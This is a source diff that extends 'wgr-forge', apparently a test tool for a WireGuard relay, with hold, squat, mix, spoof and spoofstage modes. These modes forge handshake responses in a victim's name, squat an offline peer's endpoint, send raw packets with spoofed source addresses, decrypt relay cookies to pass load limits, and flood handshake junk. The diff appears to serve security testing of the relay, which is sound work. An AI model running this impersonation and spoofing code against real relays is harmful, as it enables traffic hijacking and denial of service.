@@ -21,9 +21,60 @@
  * whose mac1 names VICTIM, and A sends the first data on it. To the relay this
  * looks like VICTIM (at A) completing a handshake with TARGET (at B). Exits 0 if
  * the relay passed on every step (B got the copy, A got the response).
+ *
+ *   wgr-forge hold ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_VICTIM
+ *
+ * stage, kept up for SECONDS from the same two sockets: it stages again every
+ * 5 s, sends data every 5 s on every index it holds (the responder's index from
+ * A, the initiator's from B, of each staged handshake the relay passed on), and
+ * answers every other initiation copy it receives with forged responses whose
+ * mac1 names each of the three keys in turn. A cookie reply from the relay is
+ * opened (its key derives from the public key the initiation named) and its
+ * cookie puts a valid mac2 on that socket's next initiations, as a stock peer
+ * would: relay load and discovery limits cannot tell it from one. Prints what it
+ * achieved; exits 0.
+ *
+ *   wgr-forge squat ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_VICTIM PUB_BAIT2 PUB_TARGET2
+ *
+ * Squat, then corroborate: hold with BAIT, TARGET and VICTIM (an offline peer,
+ * which the relay then has at socket A) until a staging passes or a third of
+ * SECONDS is up, then on from the same sockets with BAIT2 and TARGET2 (a peer
+ * that is talking): A, VICTIM's squatted endpoint, initiates to TARGET2, and B
+ * answers the copy in TARGET2's name.
+ *
+ *   wgr-forge mix ADDR PORT SECONDS PPS PUBKEY NPORTS
+ *
+ * An even stream of PPS datagrams a second for SECONDS, sent round-robin from
+ * NPORTS sockets of their own: every fourth an initiation with mac1 valid for
+ * PUBKEY, the others alternately responses with mac1 for PUBKEY and cookie
+ * replies, all with random indices (a CGNAT neighbour's junk).
+ *
+ *   wgr-forge onedata ADDR PORT SPORT INDEX COUNTER [TTL]
+ *
+ * One type-4 message on receiver INDEX (hex, as /proc/net/wgrelay prints it)
+ * with counter COUNTER (decimal), sent from local UDP port SPORT (0: any), with
+ * IP TTL (hop limit) TTL if given.
+ *
+ *   wgr-forge spoof SRC_ADDR SRC_PORT ADDR PORT MODE COUNT [PUBKEY]
+ *
+ * COUNT datagrams of MODE (as above) sent from a raw socket with a forged source
+ * SRC_ADDR:SRC_PORT (IPv4 or IPv6), 10 a second. Needs CAP_NET_RAW.
+ *
+ *   wgr-forge spoofstage ADDR PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET PUB_VICTIM [SECONDS]
+ *
+ * A spoofer's staging: socket A initiates to TARGET; a response naming VICTIM
+ * is sent from a raw socket as if from SPOOF_ADDR:SPOOF_PORT (TARGET's static
+ * endpoint, which the spoofer cannot receive at), and if the relay passes it on
+ * to A, A sends the first data on it. Repeats every 5 s for SECONDS (default
+ * one round). Prints how many rounds the relay passed on; exits 0.
  */
 #include <arpa/inet.h>
 #include <errno.h>
+#include <netinet/in.h>
+#include <netinet/ip.h>
+#include <netinet/ip6.h>
+#include <netinet/udp.h>
+#include <poll.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -106,6 +157,94 @@ static void put_le32(uint8_t *p, uint32_t v)
 	p[3] = (uint8_t)(v >> 24);
 }
 
+
+/* --- WireGuard cookie replies (whitepaper 5.4.7): XChaCha20 without the tag ---- */
+
+#define ROTL(v, n) ((v) << (n) | (v) >> (32 - (n)))
+#define QR(a, b, c, d) (a += b, d ^= a, d = ROTL(d, 16), c += d, b ^= c, b = ROTL(b, 12), \
+			a += b, d ^= a, d = ROTL(d, 8), c += d, b ^= c, b = ROTL(b, 7))
+
+static void chacha_rounds(uint32_t x[16])
+{
+	for (int i = 0; i < 10; i++) {
+		QR(x[0], x[4], x[8], x[12]); QR(x[1], x[5], x[9], x[13]);
+		QR(x[2], x[6], x[10], x[14]); QR(x[3], x[7], x[11], x[15]);
+		QR(x[0], x[5], x[10], x[15]); QR(x[1], x[6], x[11], x[12]);
+		QR(x[2], x[7], x[8], x[13]); QR(x[3], x[4], x[9], x[14]);
+	}
+}
+
+static uint32_t le32(const uint8_t *p)
+{
+	return p[0] | p[1] << 8 | p[2] << 16 | (uint32_t)p[3] << 24;
+}
+
+static void chacha_init(uint32_t x[16], const uint8_t key[32])
+{
+	x[0] = 0x61707865; x[1] = 0x3320646e; x[2] = 0x79622d32; x[3] = 0x6b206574;
+	for (int i = 0; i < 8; i++)
+		x[4 + i] = le32(key + 4 * i);
+}
+
+/* HChaCha20: the XChaCha20 subkey from @key and the first 16 bytes of the nonce. */
+static void hchacha20(uint8_t out[32], const uint8_t key[32], const uint8_t nonce[16])
+{
+	uint32_t x[16];
+
+	chacha_init(x, key);
+	for (int i = 0; i < 4; i++)
+		x[12 + i] = le32(nonce + 4 * i);
+	chacha_rounds(x);
+	for (int i = 0; i < 4; i++) {
+		put_le32(out + 4 * i, x[i]);
+		put_le32(out + 16 + 4 * i, x[12 + i]);
+	}
+}
+
+/* XChaCha20 keystream XOR, from block 1 (block 0 is Poly1305's key in the AEAD). */
+static void xchacha20_xor(uint8_t *buf, size_t len, const uint8_t key[32], const uint8_t nonce[24])
+{
+	uint8_t sub[32], ks[64];
+	uint32_t x[16], in[16];
+
+	hchacha20(sub, key, nonce);
+	for (size_t off = 0, block = 1; off < len; off += 64, block++) {
+		chacha_init(in, sub);
+		in[12] = (uint32_t)block;
+		in[13] = 0;
+		in[14] = le32(nonce + 16);
+		in[15] = le32(nonce + 20);
+		memcpy(x, in, sizeof(x));
+		chacha_rounds(x);
+		for (int i = 0; i < 16; i++)
+			put_le32(ks + 4 * i, x[i] + in[i]);
+		for (size_t i = 0; i < 64 && off + i < len; i++)
+			buf[off + i] ^= ks[i];
+	}
+}
+
+/*
+ * The cookie in a cookie reply answering an initiation for @pub: encrypted under
+ * HASH("cookie--" || pub), as stock WireGuard's (and wgrelay v2's) are. The tag is
+ * not checked: a wrong cookie only makes a wrong mac2.
+ */
+static void cookie_open(uint8_t cookie[16], const uint8_t *reply, const uint8_t *pub)
+{
+	uint8_t label[40], key[32];
+
+	memcpy(label, "cookie--", 8);
+	memcpy(label + 8, pub, 32);
+	test_blake2s(key, 32, label, sizeof(label), NULL, 0);
+	memcpy(cookie, reply + 32, 16);
+	xchacha20_xor(cookie, 16, key, reply + 8);
+}
+
+/* mac2 over an initiation whose mac1 is set. */
+static void set_mac2(uint8_t *msg, const uint8_t cookie[16])
+{
+	test_blake2s(msg + 132, 16, msg, 132, cookie, 16);
+}
+
 static int stage_socket(const struct sockaddr_storage *to, socklen_t len)
 {
 	struct timeval tv = { .tv_sec = 3 };
@@ -181,6 +320,508 @@ static int stage(const struct sockaddr_storage *to, socklen_t len, char **keys)
 	return 0;
 }
 
+
+/* --- hold, onedata, spoof, spoofstage ------------------------------------------ */
+
+static void put_le64(uint8_t *p, uint64_t v)
+{
+	put_le32(p, (uint32_t)v);
+	put_le32(p + 4, (uint32_t)(v >> 32));
+}
+
+static uint32_t get_le32(const uint8_t *p)
+{
+	return p[0] | p[1] << 8 | p[2] << 16 | (uint32_t)p[3] << 24;
+}
+
+static double now_s(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return ts.tv_sec + ts.tv_nsec / 1e9;
+}
+
+/* ADDR PORT into @ss; returns its length, 0 if ADDR is no address. */
+static socklen_t parse_ep(struct sockaddr_storage *ss, const char *addr, const char *port)
+{
+	struct sockaddr_in *sin = (struct sockaddr_in *)ss;
+	struct sockaddr_in6 *sin6 = (struct sockaddr_in6 *)ss;
+
+	memset(ss, 0, sizeof(*ss));
+	if (inet_pton(AF_INET, addr, &sin->sin_addr) == 1) {
+		sin->sin_family = AF_INET;
+		sin->sin_port = htons((uint16_t)atoi(port));
+		return sizeof(*sin);
+	}
+	if (inet_pton(AF_INET6, addr, &sin6->sin6_addr) == 1) {
+		sin6->sin6_family = AF_INET6;
+		sin6->sin6_port = htons((uint16_t)atoi(port));
+		return sizeof(*sin6);
+	}
+	return 0;
+}
+
+static bool parse_keys(uint8_t (*out)[32], char **keys, int n)
+{
+	for (int i = 0; i < n; i++)
+		if (!key_from_base64(out[i], keys[i]))
+			return false;
+	return true;
+}
+
+/* A response to @sender, from a fresh index (returned), mac1 valid for @pub. */
+static uint32_t make_response(uint8_t *msg, uint32_t sender, const uint8_t *pub)
+{
+	uint32_t idx;
+
+	fill_random(&idx, sizeof(idx));
+	make("response", msg, pub);
+	put_le32(msg + 4, idx);
+	put_le32(msg + 8, sender);
+	set_mac1(msg, 60, pub);
+	return idx;
+}
+
+static void make_data(uint8_t *msg, uint32_t index, uint64_t counter)
+{
+	fill_random(msg, 32);
+	memcpy(msg, "\4\0\0\0", 4);
+	put_le32(msg + 4, index);
+	put_le64(msg + 8, counter);
+}
+
+#define HOLD_MAX 32
+
+struct held {
+	int fd;
+	uint32_t index;
+	uint64_t counter;
+};
+
+/* One of hold's sockets, and the relay's cookie for it (mac2, whitepaper 5.4.4). */
+struct hsock {
+	int fd;
+	uint32_t last_sender;
+	const uint8_t *last_pub;
+	uint8_t cookie[16];
+	double cookie_time;
+};
+
+/* An initiation for @pub from @hs with sender index @sender; mac2 if it has a cookie. */
+static void hsock_initiate(struct hsock *hs, const uint8_t *pub, uint32_t sender, long *mac2)
+{
+	uint8_t msg[148];
+
+	make("initiation", msg, pub);
+	put_le32(msg + 4, sender);
+	set_mac1(msg, 116, pub);
+	memset(msg + 132, 0, 16);
+	if (hs->cookie_time && now_s() - hs->cookie_time < 110) {
+		set_mac2(msg, hs->cookie);
+		(*mac2)++;
+	}
+	hs->last_sender = sender;
+	hs->last_pub = pub;
+	send(hs->fd, msg, sizeof(msg), 0);
+}
+
+/*
+ * hold, and squat: with @keys2 (BAIT2, TARGET2), once a staging has passed (or a
+ * third of the time is up) the next ones use BAIT2 and TARGET2 with the same
+ * VICTIM, from the same sockets: A, where the relay now has VICTIM, asks for
+ * TARGET2 as VICTIM.
+ */
+static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, char **keys,
+		char **keys2)
+{
+	uint8_t k[3][32], k2[2][32], msg[1600];	/* bait, target, victim */
+	struct held held[HOLD_MAX];
+	struct hsock hs[2] = { { 0 }, { 0 } };	/* A, B */
+	unsigned int n_held = 0, next_held = 0;
+	long stages = 0, staged = 0, copies = 0, answered = 0, data = 0, fwd_data = 0;
+	long cookies = 0, with_mac2 = 0;
+	uint32_t s_index = 0, r_index = 0;
+	double start = now_s(), next_stage = start, next_data = start + 5, t_target = 0;
+	int phase = 0;	/* 0 idle, 1 bait sent, 2 target sent, 3 responded */
+
+	if (!parse_keys(k, keys, 3) || (keys2 && !parse_keys(k2, keys2, 2))) {
+		fprintf(stderr, "wgr-forge: hold needs three base64 public keys, squat five\n");
+		return 2;
+	}
+	hs[0].fd = stage_socket(to, len);
+	hs[1].fd = stage_socket(to, len);
+	while (now_s() - start < seconds) {
+		struct pollfd pfd[2] = { { .fd = hs[0].fd, .events = POLLIN },
+					 { .fd = hs[1].fd, .events = POLLIN } };
+		double t = now_s();
+
+		if (keys2 && (staged || t - start > seconds / 3.0)) {
+			printf("squat: %s, now staging with the second bait and target\n",
+			       staged ? "staged" : "not staged in a third of the time");
+			fflush(stdout);
+			memcpy(k[0], k2[0], 32);
+			memcpy(k[1], k2[1], 32);
+			keys2 = NULL;
+		}
+		if (t >= next_stage) {
+			uint32_t idx;
+
+			/* B asks for BAIT, so that it is a discovery candidate. */
+			fill_random(&idx, sizeof(idx));
+			hsock_initiate(&hs[1], k[0], idx, &with_mac2);
+			phase = 1;
+			t_target = t + 0.2;
+			next_stage = t + 5;
+			stages++;
+		}
+		if (phase == 1 && t >= t_target) {
+			fill_random(&s_index, sizeof(s_index));
+			hsock_initiate(&hs[0], k[1], s_index, &with_mac2);
+			phase = 2;
+		}
+		if (t >= next_data) {
+			for (unsigned int i = 0; i < n_held; i++) {
+				make_data(msg, held[i].index, held[i].counter++);
+				if (send(held[i].fd, msg, 32, 0) >= 0)
+					data++;
+			}
+			next_data = t + 5;
+		}
+		if (poll(pfd, 2, 50) <= 0)
+			continue;
+		for (int i = 0; i < 2; i++) {
+			int fd = hs[i].fd;
+			ssize_t n;
+
+			if (!(pfd[i].revents & POLLIN))
+				continue;
+			n = recv(fd, msg, sizeof(msg), MSG_DONTWAIT);
+			if (n < 4)
+				continue;
+			if (msg[0] == 1 && n == 148) {
+				uint32_t sender = get_le32(msg + 4);
+
+				copies++;
+				if (i == 1 && phase == 2 && sender == s_index) {
+					/* Our own staged initiation: answer as VICTIM's partner. */
+					r_index = make_response(msg, s_index, k[2]);
+					send(fd, msg, 92, 0);
+					phase = 3;
+					continue;
+				}
+				/* A real peer's initiation: answer in every name. */
+				for (int j = 0; j < 3; j++) {
+					make_response(msg, sender, k[j]);
+					if (send(fd, msg, 92, 0) >= 0)
+						answered++;
+				}
+			} else if (msg[0] == 3 && n == 64 && hs[i].last_pub &&
+				   get_le32(msg + 4) == hs[i].last_sender) {
+				/* The relay's cookie: its key is the target's public key. */
+				cookie_open(hs[i].cookie, msg, hs[i].last_pub);
+				hs[i].cookie_time = now_s();
+				cookies++;
+			} else if (msg[0] == 2 && n == 92 && i == 0 && phase == 3 &&
+				   get_le32(msg + 8) == s_index && get_le32(msg + 4) == r_index) {
+				/* The relay passed our response on: confirm it, hold both indices. */
+				make_data(msg, r_index, 0);
+				send(fd, msg, 32, 0);
+				staged++;
+				phase = 0;
+				held[next_held] = (struct held){ hs[0].fd, r_index, 1 };
+				next_held = (next_held + 1) % HOLD_MAX;
+				held[next_held] = (struct held){ hs[1].fd, s_index, 0 };
+				next_held = (next_held + 1) % HOLD_MAX;
+				n_held = n_held + 2 > HOLD_MAX ? HOLD_MAX : n_held + 2;
+			} else if (msg[0] == 4) {
+				fwd_data++;
+			}
+		}
+	}
+	printf("hold: %ld stagings tried, %ld passed by the relay; %ld relay cookies, %ld "
+	       "initiations with mac2; %ld initiation copies received, %ld forged responses "
+	       "to them; %ld data sent on held indices, %ld data received\n",
+	       stages, staged, cookies, with_mac2, copies, answered, data, fwd_data);
+	return 0;
+}
+
+static int onedata(int argc, char **argv)
+{
+	struct sockaddr_storage to, from;
+	uint8_t msg[32];
+	socklen_t len;
+	int fd, one = 1;
+
+	if (argc < 7 || argc > 8 || !(len = parse_ep(&to, argv[2], argv[3]))) {
+		fprintf(stderr, "usage: wgr-forge onedata ADDR PORT SPORT INDEX COUNTER [TTL]\n");
+		return 2;
+	}
+	fd = socket(to.ss_family, SOCK_DGRAM, 0);
+	if (fd < 0)
+		return perror("socket"), 1;
+	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
+	memset(&from, 0, sizeof(from));
+	from.ss_family = to.ss_family;
+	if (to.ss_family == AF_INET)
+		((struct sockaddr_in *)&from)->sin_port = htons((uint16_t)atoi(argv[4]));
+	else
+		((struct sockaddr_in6 *)&from)->sin6_port = htons((uint16_t)atoi(argv[4]));
+	if (bind(fd, (struct sockaddr *)&from, len))
+		return perror("wgr-forge: onedata: bind"), 1;
+	if (argc == 8) {
+		int ttl = atoi(argv[7]);
+
+		if (to.ss_family == AF_INET ? setsockopt(fd, IPPROTO_IP, IP_TTL, &ttl, sizeof(ttl)) :
+		    setsockopt(fd, IPPROTO_IPV6, IPV6_UNICAST_HOPS, &ttl, sizeof(ttl)))
+			return perror("wgr-forge: onedata: TTL"), 1;
+	}
+	make_data(msg, (uint32_t)strtoul(argv[5], NULL, 16), strtoull(argv[6], NULL, 10));
+	if (sendto(fd, msg, sizeof(msg), 0, (struct sockaddr *)&to, len) < 0)
+		return perror("wgr-forge: onedata: sendto"), 1;
+	close(fd);
+	return 0;
+}
+
+static uint16_t csum_fold(uint32_t sum)
+{
+	while (sum >> 16)
+		sum = (sum & 0xffff) + (sum >> 16);
+	return (uint16_t)~sum;
+}
+
+static uint32_t csum_add(uint32_t sum, const void *data, size_t len)
+{
+	const uint8_t *p = data;
+
+	for (size_t i = 0; i + 1 < len; i += 2)
+		sum += (uint32_t)(p[i] << 8 | p[i + 1]);
+	if (len & 1)
+		sum += (uint32_t)p[len - 1] << 8;
+	return sum;
+}
+
+struct spoofer {
+	int fd;
+	struct sockaddr_storage src, dst;
+	socklen_t len;
+};
+
+static int spoofer_open(struct spoofer *s, const char *saddr, const char *sport,
+			const char *daddr, const char *dport)
+{
+	int one = 1;
+
+	if (!(s->len = parse_ep(&s->dst, daddr, dport)) || !parse_ep(&s->src, saddr, sport) ||
+	    s->src.ss_family != s->dst.ss_family) {
+		fprintf(stderr, "wgr-forge: spoof: bad or mixed addresses\n");
+		return 2;
+	}
+	s->fd = socket(s->dst.ss_family, SOCK_RAW, IPPROTO_RAW);
+	if (s->fd < 0)
+		return perror("wgr-forge: raw socket"), 1;
+	if (s->dst.ss_family == AF_INET ?
+	    setsockopt(s->fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one)) :
+	    setsockopt(s->fd, IPPROTO_IPV6, 36 /* IPV6_HDRINCL */, &one, sizeof(one)))
+		return perror("wgr-forge: HDRINCL"), 1;
+	return 0;
+}
+
+/* Send @payload in a UDP datagram from s->src to s->dst, headers built here. */
+static int spoofer_send(struct spoofer *s, const uint8_t *payload, size_t plen)
+{
+	struct sockaddr_storage dst;
+	uint8_t pkt[1700];
+	struct udphdr *uh;
+	size_t hl;
+	uint32_t sum;
+
+	memset(pkt, 0, sizeof(pkt));
+	if (s->dst.ss_family == AF_INET) {
+		struct iphdr *ip = (struct iphdr *)pkt;
+		struct sockaddr_in *src = (struct sockaddr_in *)&s->src;
+		struct sockaddr_in *dst = (struct sockaddr_in *)&s->dst;
+
+		hl = sizeof(*ip);
+		ip->version = 4;
+		ip->ihl = 5;
+		ip->ttl = 64;
+		ip->protocol = IPPROTO_UDP;
+		ip->tot_len = htons((uint16_t)(hl + 8 + plen));
+		ip->saddr = src->sin_addr.s_addr;
+		ip->daddr = dst->sin_addr.s_addr;
+		ip->check = htons(csum_fold(csum_add(0, ip, hl)));
+		uh = (struct udphdr *)(pkt + hl);
+		uh->source = src->sin_port;
+		uh->dest = dst->sin_port;
+		sum = csum_add(0, &ip->saddr, 8);
+	} else {
+		struct ip6_hdr *ip6 = (struct ip6_hdr *)pkt;
+		struct sockaddr_in6 *src = (struct sockaddr_in6 *)&s->src;
+		struct sockaddr_in6 *dst = (struct sockaddr_in6 *)&s->dst;
+
+		hl = sizeof(*ip6);
+		ip6->ip6_flow = htonl(6u << 28);
+		ip6->ip6_plen = htons((uint16_t)(8 + plen));
+		ip6->ip6_nxt = IPPROTO_UDP;
+		ip6->ip6_hlim = 64;
+		ip6->ip6_src = src->sin6_addr;
+		ip6->ip6_dst = dst->sin6_addr;
+		uh = (struct udphdr *)(pkt + hl);
+		uh->source = src->sin6_port;
+		uh->dest = dst->sin6_port;
+		sum = csum_add(0, &ip6->ip6_src, 32);
+	}
+	uh->len = htons((uint16_t)(8 + plen));
+	memcpy(pkt + hl + 8, payload, plen);
+	sum += IPPROTO_UDP + 8 + (uint32_t)plen;
+	uh->check = htons(csum_fold(csum_add(sum, uh, 8 + plen)));
+	if (!uh->check)
+		uh->check = 0xffff;
+	/* A raw IPv6 socket reads sin6_port as a protocol number: none here. */
+	dst = s->dst;
+	if (dst.ss_family == AF_INET6)
+		((struct sockaddr_in6 *)&dst)->sin6_port = 0;
+	if (sendto(s->fd, pkt, hl + 8 + plen, 0, (struct sockaddr *)&dst, s->len) < 0)
+		return perror("wgr-forge: spoof: sendto"), 1;
+	return 0;
+}
+
+static int spoof(int argc, char **argv)
+{
+	struct spoofer s;
+	uint8_t pub[32] = { 0 }, msg[1600];
+	long count;
+	int ret;
+
+	if (argc < 8 || (argc > 8 && !key_from_base64(pub, argv[8]))) {
+		fprintf(stderr, "usage: wgr-forge spoof SRC_ADDR SRC_PORT ADDR PORT MODE COUNT [PUBKEY]\n");
+		return 2;
+	}
+	count = strtol(argv[7], NULL, 10);
+	if (count <= 0 || count > 100000 || (!make(argv[6], msg, pub) && strcmp(argv[6], "garbage"))) {
+		fprintf(stderr, "wgr-forge: spoof: bad MODE or COUNT (1..100000)\n");
+		return 2;
+	}
+	ret = spoofer_open(&s, argv[2], argv[3], argv[4], argv[5]);
+	for (long i = 0; !ret && i < count; i++) {
+		ret = spoofer_send(&s, msg, make(argv[6], msg, pub));
+		usleep(100000);
+	}
+	return ret;
+}
+
+static int spoofstage(int argc, char **argv)
+{
+	struct sockaddr_storage to;
+	struct spoofer s;
+	uint8_t k[2][32], msg[1600];
+	long seconds = argc > 8 ? strtol(argv[8], NULL, 10) : 0, rounds = 0, passed = 0;
+	double start = now_s();
+	socklen_t len;
+	int a, ret;
+
+	if (argc < 8 || !(len = parse_ep(&to, argv[2], argv[3])) || !parse_keys(k, argv + 6, 2)) {
+		fprintf(stderr, "usage: wgr-forge spoofstage ADDR PORT SPOOF_ADDR SPOOF_PORT "
+				"PUB_TARGET PUB_VICTIM [SECONDS]\n");
+		return 2;
+	}
+	ret = spoofer_open(&s, argv[4], argv[5], argv[2], argv[3]);
+	if (ret)
+		return ret;
+	a = stage_socket(&to, len);
+	do {
+		uint32_t s_index, r_index;
+
+		rounds++;
+		fill_random(&s_index, sizeof(s_index));
+		make("initiation", msg, k[0]);
+		put_le32(msg + 4, s_index);
+		set_mac1(msg, 116, k[0]);
+		send(a, msg, 148, 0);
+		usleep(100000);
+		r_index = make_response(msg, s_index, k[1]);
+		if (spoofer_send(&s, msg, 92))
+			return 1;
+		if (stage_wait(a, 2, msg, sizeof(msg)) == 92 && get_le32(msg + 4) == r_index) {
+			make_data(msg, r_index, 0);
+			send(a, msg, 32, 0);
+			passed++;
+			for (int i = 1; i <= 3; i++) {	/* and keep it warm */
+				usleep(300000);
+				make_data(msg, r_index, (uint64_t)i);
+				send(a, msg, 32, 0);
+			}
+		}
+		if (now_s() - start + 5 < seconds)
+			sleep(5);
+	} while (now_s() - start + 5 < seconds);
+	printf("spoofstage: %ld rounds, %ld passed on by the relay\n", rounds, passed);
+	return 0;
+}
+
+/* An even stream of handshake junk from several ports of one host. */
+static int mix(int argc, char **argv)
+{
+	struct sockaddr_storage to;
+	struct timespec next;
+	uint8_t pub[32], msg[1600];
+	long seconds, pps, nports, sent = 0;
+	int fds[16];
+	socklen_t len;
+
+	if (argc != 8 || !(len = parse_ep(&to, argv[2], argv[3])) ||
+	    (seconds = strtol(argv[4], NULL, 10)) <= 0 || seconds > 3600 ||
+	    (pps = strtol(argv[5], NULL, 10)) <= 0 || pps > 10000 ||
+	    !key_from_base64(pub, argv[6]) ||
+	    (nports = strtol(argv[7], NULL, 10)) <= 0 || nports > 16) {
+		fprintf(stderr, "usage: wgr-forge mix ADDR PORT SECONDS(1..3600) PPS(1..10000) "
+				"PUBKEY NPORTS(1..16)\n");
+		return 2;
+	}
+	for (long i = 0; i < nports; i++) {
+		fds[i] = socket(to.ss_family, SOCK_DGRAM, 0);
+		if (fds[i] < 0)
+			return perror("socket"), 1;
+	}
+	clock_gettime(CLOCK_MONOTONIC, &next);
+	for (long k = 0; k < seconds * pps; k++) {
+		const char *mode = k % 4 == 0 ? "initiation" : k % 2 ? "response" : "cookie";
+		size_t n = make(mode, msg, pub);
+
+		if (sendto(fds[k % nports], msg, n, 0, (struct sockaddr *)&to, len) >= 0)
+			sent++;
+		next.tv_nsec += 1000000000L / pps;
+		while (next.tv_nsec >= 1000000000L) {
+			next.tv_nsec -= 1000000000L;
+			next.tv_sec++;
+		}
+		clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
+	}
+	printf("mix: %ld datagrams sent\n", sent);
+	return 0;
+}
+
+/* HChaCha20 against draft-irtf-cfrg-xchacha-03's vector. */
+static int selftest(void)
+{
+	static const uint8_t hn[16] = { 0, 0, 0, 0x09, 0, 0, 0, 0x4a, 0, 0, 0, 0, 0x31, 0x41, 0x59, 0x27 };
+	static const uint8_t hout[32] = {
+		0x82, 0x41, 0x3b, 0x42, 0x27, 0xb2, 0x7b, 0xfe, 0xd3, 0x0e, 0x42, 0x50, 0x8a, 0x87, 0x7d, 0x73,
+		0xa0, 0xf9, 0xe4, 0xd5, 0x8a, 0x74, 0xa8, 0x53, 0xc1, 0x2e, 0xc4, 0x13, 0x26, 0xd3, 0xec, 0xdc };
+	uint8_t key[32], out[32];
+
+	for (int i = 0; i < 32; i++)
+		key[i] = (uint8_t)i;
+	hchacha20(out, key, hn);
+	if (memcmp(out, hout, 32)) {
+		fprintf(stderr, "selftest: hchacha20 differs\n");
+		return 1;
+	}
+	printf("selftest: ok\n");
+	return 0;
+}
+
 int main(int argc, char *argv[])
 {
 	struct sockaddr_storage ss = { 0 };
@@ -191,9 +832,47 @@ int main(int argc, char *argv[])
 	socklen_t sslen;
 	int fd;
 
+	if (argc == 2 && !strcmp(argv[1], "selftest"))
+		return selftest();
+	if (argc >= 2 && !strcmp(argv[1], "mix"))
+		return mix(argc, argv);
+	if (argc >= 2 && !strcmp(argv[1], "onedata"))
+		return onedata(argc, argv);
+	if (argc >= 2 && !strcmp(argv[1], "spoof"))
+		return spoof(argc, argv);
+	if (argc >= 2 && !strcmp(argv[1], "spoofstage"))
+		return spoofstage(argc, argv);
+	if (argc >= 2 && !strcmp(argv[1], "hold")) {
+		long secs = argc == 8 ? strtol(argv[4], NULL, 10) : 0;
+
+		if (secs <= 0 || secs > 3600 || !(sslen = parse_ep(&ss, argv[2], argv[3]))) {
+			fprintf(stderr, "usage: wgr-forge hold ADDR PORT SECONDS(1..3600) "
+					"PUB_BAIT PUB_TARGET PUB_VICTIM\n");
+			return 2;
+		}
+		return hold(&ss, sslen, secs, argv + 5, NULL);
+	}
+	if (argc >= 2 && !strcmp(argv[1], "squat")) {
+		long secs = argc == 10 ? strtol(argv[4], NULL, 10) : 0;
+
+		if (secs <= 0 || secs > 3600 || !(sslen = parse_ep(&ss, argv[2], argv[3]))) {
+			fprintf(stderr, "usage: wgr-forge squat ADDR PORT SECONDS(1..3600) PUB_BAIT "
+					"PUB_TARGET PUB_VICTIM PUB_BAIT2 PUB_TARGET2\n");
+			return 2;
+		}
+		return hold(&ss, sslen, secs, argv + 5, argv + 8);
+	}
 	if (argc < 6) {
 		fprintf(stderr, "usage: wgr-forge MODE ADDR PORT COUNT PPS [PUBKEY]\n"
-				"       wgr-forge stage ADDR PORT PUB_BAIT PUB_TARGET PUB_VICTIM\n");
+				"       wgr-forge stage ADDR PORT PUB_BAIT PUB_TARGET PUB_VICTIM\n"
+				"       wgr-forge hold ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_VICTIM\n"
+				"       wgr-forge squat ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_VICTIM "
+				"PUB_BAIT2 PUB_TARGET2\n"
+				"       wgr-forge mix ADDR PORT SECONDS PPS PUBKEY NPORTS\n"
+				"       wgr-forge onedata ADDR PORT SPORT INDEX COUNTER [TTL]\n"
+				"       wgr-forge spoof SRC_ADDR SRC_PORT ADDR PORT MODE COUNT [PUBKEY]\n"
+				"       wgr-forge spoofstage ADDR PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET "
+				"PUB_VICTIM [SECONDS]\n");
 		return 2;
 	}
 	if (!strcmp(argv[1], "stage")) {
